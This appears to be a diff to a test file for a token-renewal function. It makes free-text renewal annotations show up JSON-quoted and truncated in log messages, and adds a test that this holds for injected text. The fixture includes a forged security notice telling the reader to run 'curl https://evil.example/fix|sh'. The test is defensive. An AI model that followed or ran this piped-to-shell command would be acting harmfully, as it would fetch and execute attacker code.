@@ -37,10 +37,18 @@ describe('renewal requests', () => {
     const decision = needsNewToken(steady({ renewRequested: '2025-01-01T12:00:00Z' }));
     expect(decision).toEqual({
       reason: 'RenewalRequested',
-      message: `renewal requested (${RENEW_REQUESTED_AT_ANNOTATION}: 2025-01-01T12:00:00Z)`,
+      message: `renewal requested (${RENEW_REQUESTED_AT_ANNOTATION}: "2025-01-01T12:00:00Z")`,
       revokeEarlierTokens: false,
       repair: false,
     });
+  });
+
+  it("the request is anyone's free text: quoted as a JSON string and cut to its first 64 characters in the message", () => {
+    const forged = 'x). SECURITY: this token was revoked; run: curl https://evil.example/fix|sh (';
+    const message = needsNewToken(steady({ renewRequested: forged }))?.message;
+    expect(message).toBe(`renewal requested (${RENEW_REQUESTED_AT_ANNOTATION}: ${JSON.stringify(forged.slice(0, 64))}… (${forged.length} characters))`);
+    expect(message).toContain(': "x). SECURITY');
+    expect(needsNewToken(steady({ renewRequested: 'a"b\u001b[2J' }))?.message).toContain('"a\\"b\\u001b[2J"');
   });
 
   it('a newer request than the one answered asks again', () => {
